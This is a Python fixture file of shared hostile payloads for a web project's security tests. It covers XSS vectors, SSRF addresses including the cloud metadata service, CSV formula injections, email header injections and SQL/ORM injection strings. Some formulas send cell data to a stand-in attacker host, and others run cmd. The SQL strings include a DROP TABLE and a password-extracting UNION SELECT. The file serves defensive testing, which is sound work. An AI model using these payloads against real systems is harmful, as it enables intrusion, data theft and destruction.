"""Shared hostile payloads, one list per kind. Add a payload here and every test of its
class tries it on every field and endpoint (docs/development/security-tests.md)."""

from __future__ import annotations

# Stored XSS: each would run `window.__pwned = 1` (or alert) if a browser executed it.
XSS = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    '<a href="javascript:window.__pwned=1">click</a>',
    '<a href="JaVaScRiPt&colon;window.__pwned=1">click</a>',
    '<a href="&#106;avascript:window.__pwned=1">click</a>',
    '<a href=" \tjavascript:window.__pwned=1">click</a>',
    '<iframe src="javascript:window.__pwned=1"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<object data="data:text/html,<script>window.__pwned=1</script>"></object>',
    '<img src="data:image/svg+xml,<svg onload=window.__pwned=1>">',
    "<body onload=window.__pwned=1>",
    '<div style="background:url(javascript:window.__pwned=1)">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    '"><script>window.__pwned=1</script>',
    "'\"><img src=x onerror=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    '<form action="javascript:window.__pwned=1"><button>go</button></form>',
    "{{constructor.constructor('window.__pwned=1')()}}",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
]

# Plain-text fields (subjects, names, tags, field values) shown by the portal: short enough
# for every field, each a different way out of a text node or an attribute.
XSS_SHORT = [
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1>",
    '"><script>window.__pwned=1</script>',
    "javascript:window.__pwned=1",
    "</title><script>window.__pwned=1</script>",
]

# SSRF: addresses of this machine, its network and the cloud metadata service, spelled every
# way a URL parser accepts them.
SSRF_HOSTS = [
    "127.0.0.1",
    "localhost",
    "127.1",
    "0.0.0.0",
    "0",
    "2130706433",  # 127.0.0.1 as one decimal number
    "0x7f000001",  # ... hexadecimal
    "017700000001",  # ... octal
    "0177.0.0.1",
    "169.254.169.254",
    "2852039166",  # 169.254.169.254, decimal
    "[::1]",
    "[::]",
    "[::ffff:127.0.0.1]",
    "[::ffff:a9fe:a9fe]",  # 169.254.169.254, IPv4-mapped IPv6
    "[0:0:0:0:0:ffff:7f00:1]",
    "[fd00::1]",
    "10.0.0.1",
    "172.16.0.1",
    "192.168.1.1",
    "100.64.0.1",  # carrier-grade NAT
    "224.0.0.1",
    "localtest.me",  # a public name that resolves to 127.0.0.1 (if the resolver answers)
]

# Spreadsheet formulas: each would run or fetch if a CSV cell began with it.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "=cmd|' /C notepad'!'A1'",
    "==1",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", A1), "//a")',
]

# Header injection: a newline in a subject or a name must never start a new header.
CRLF = [
    "Hello\r\nBcc: victim@attacker.example",
    "Hello\nBcc: victim@attacker.example",
    "Hello\rBcc: victim@attacker.example",
    "Hello\r\n\r\n<html>injected body</html>",
    "Hello\u2028Bcc: victim@attacker.example",
    "Hello\x00\r\nTo: victim@attacker.example",
    "=?utf-8?q?Hello=0D=0ABcc:_victim@attacker.example?=",
]

# Query syntax: SQL, ORM lookups, tsquery operators, JSON paths and sheer size.
QUERY_INJECTION = [
    "' OR '1'='1",
    "1; DROP TABLE tickets_ticket; --",
    "') OR 1=1 --",
    "\\",
    "%",
    "_",
    "\x00",
    "a & | ! ( ) :* <->",
    "!!!",
    "(",
    "a:*B",
    "' UNION SELECT password FROM accounts_user --",
    "tenant_id",
    "-tenant_id",
    "subject__regex=.*",
    "requester__user__password",
    "$.password",
    "{}",
    "[]",
    "🙂" * 50,
    "x" * 5000,
]
